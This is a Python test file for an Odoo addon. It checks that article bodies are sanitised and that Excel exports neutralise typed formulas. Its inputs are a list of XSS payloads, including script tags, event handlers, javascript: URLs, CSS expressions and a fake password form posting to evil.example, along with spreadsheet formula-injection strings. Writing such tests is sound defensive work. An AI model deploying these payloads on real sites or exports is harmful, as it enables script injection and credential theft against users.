# Copyright 2026 CCHC Communication contributors
# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
import io
import json

from openpyxl import load_workbook

from odoo import http
from odoo.tests import HttpCase, tagged

from ..common import CchcCommon, CchcMixin

# Pasted or sent text -> what must be removed. The words stay: a text is cleaned, never refused.
EVIL = {
    '<p>Tin<script>alert(1)</script></p>': ('script', 'alert'),
    '<p onclick="alert(1)">Tin</p>': ('onclick', 'alert'),
    '<p>Tin<img src="x" onerror="alert(1)"></p>': ('onerror', 'alert'),
    '<p>Tin<a href="javascript:alert(1)">x</a></p>': ('javascript', 'alert'),
    '<p>Tin<a href=" java\tscript:alert(1)">x</a></p>': ('alert',),
    '<p>Tin<a href="vbscript:alert(1)">x</a></p>': ('vbscript',),
    '<p>Tin<a href="data:text/html;base64,PHNjcmlwdD4=">x</a></p>': ('data:text/html',),
    '<p>Tin<iframe src="https://evil.example"></iframe></p>': ('iframe', 'evil'),
    '<p>Tin<object data="x.swf"></object><embed src="x.swf"></p>': ('object', 'embed', 'swf'),
    '<p>Tin</p><form action="https://evil.example"><input name="password"><button>Log in</button></form>':
        ('<form', '<input', 'evil'),
    '<p>Tin<svg onload="alert(1)"><script>alert(1)</script></svg></p>': ('onload', 'alert'),
    '<p>Tin<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math></p>':
        ('javascript', 'alert'),
    '<p>Tin<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=//evil">'
    '</p>': ('<link', '<meta', 'evil'),
    '<style>* {display: none}</style><p>Tin</p>': ('<style', 'display'),
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">Tin</p>': ('position', 'z-index'),
    '<p style="background:url(javascript:alert(1))">Tin</p>': ('javascript', 'alert'),
    '<p style="width:expression(alert(1))">Tin</p>': ('expression', 'alert'),
    '<p style="behavior:url(x.htc);-moz-binding:url(x.xml)">Tin</p>': ('behavior', 'binding'),
    '<p>Tin<base href="https://evil.example/"></p>': ('<base', 'evil'),
    '<p>Tin</p><!--[if IE]><script>alert(1)</script><![endif]-->': ('alert',),
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">Tin</p></noscript><p>Tin</p>': ('onerror',),
}


@tagged('post_install', '-at_install')
class TestSanitised(CchcCommon):
    """Bodies are sanitised, not refused."""

    def test_what_could_run_is_taken_out_and_the_words_stay(self):
        article = self.as_(self.article_in('draft'), 'author')
        for body, gone in EVIL.items():
            for way in ('write', 'create', 'web_save'):
                with self.subTest(body=body, way=way):
                    if way == 'create':
                        kept = article.create({'name': "Tin", 'body': body}).body
                    elif way == 'web_save':
                        [kept] = [values['body'] for values in article.web_save({'body': body}, {'body': {}})]
                    else:
                        article.body = body
                        article.invalidate_recordset()
                        kept = article.body
                    self.assertIn("Tin", kept)
                    for word in gone:
                        self.assertNotIn(word, kept.lower())

    def test_what_people_write_with_stays(self):
        body = ('<h2>Tin</h2><p style="text-align: center; font-weight: bold; color: red">Chữ</p><ul><li>một</li></ul>'
                '<table class="table"><tbody><tr><td style="width: 50%">ô</td></tr></tbody></table>'
                '<p><a href="https://soyte.example/tin" target="_blank">liên kết</a> <b>đậm</b> <i>nghiêng</i></p>')
        article = self.as_(self.article_in('draft'), 'author')
        article.body = body
        article.invalidate_recordset()
        for part in ('<h2>', 'text-align: center', 'font-weight: bold', '<li>', '<table', 'width: 50%', 'https://soyte',
                     '<b>', '<i>'):
            self.assertIn(part, article.body.replace('text-align:center', 'text-align: center')
                          .replace('font-weight:bold', 'font-weight: bold').replace('width:50%', 'width: 50%'))

    def test_every_text_with_markup_is_sanitised(self):
        """Each Html field that a person can write, of both addons."""
        for name, model in self.env.registry.items():
            if model._abstract or not name.startswith('cchc.'):
                continue
            for field in self.env[name]._fields.values():
                if field.type == 'html' and field.store and '.cchc_' in f'.{field._module}':
                    with self.subTest(field=str(field)):
                        self.assertTrue(field.sanitize and field.sanitize_attributes and field.sanitize_style)
                        self.assertFalse(field.sanitize_overridable)


@tagged('post_install', '-at_install')
class TestExport(CchcMixin, HttpCase):

    def test_what_was_typed_is_no_formula_in_an_export(self):
        """Odoo's own export to Excel writes a title that begins with "=" as a formula."""
        titles = ["=1+2", "=HYPERLINK(\"https://evil.example\")", "{=1+2}", "+1", "@SUM(1)", "https://evil.example",
                  "external:x.xlsx"]
        articles = self.env['cchc.article'].union(*(self.article_in('draft', name=title) for title in titles))
        self.env.flush_all()
        self.authenticate('test.office', 'test.office')
        for grouped in ([], ['name']):
            asked = json.dumps({
                'model': 'cchc.article', 'fields': [{'name': 'name', 'label': "=1+1", 'type': 'char'}],
                'ids': False if grouped else articles.ids, 'domain': [('id', 'in', articles.ids)],
                'groupby': grouped, 'import_compat': False, 'context': {}})
            answer = self.url_open('/web/export/xlsx', data={
                'csrf_token': http.Request.csrf_token(self), 'data': asked})
            self.assertEqual(answer.status_code, 200)
            cells = [cell for row in load_workbook(io.BytesIO(answer.content)).active.iter_rows() for cell in row]
            words = [cell.value for cell in cells if cell.value]
            for title in titles:
                self.assertTrue(any(title in word for word in words if isinstance(word, str)), title)
            self.assertFalse([cell.value for cell in cells if cell.data_type == 'f' or cell.hyperlink])
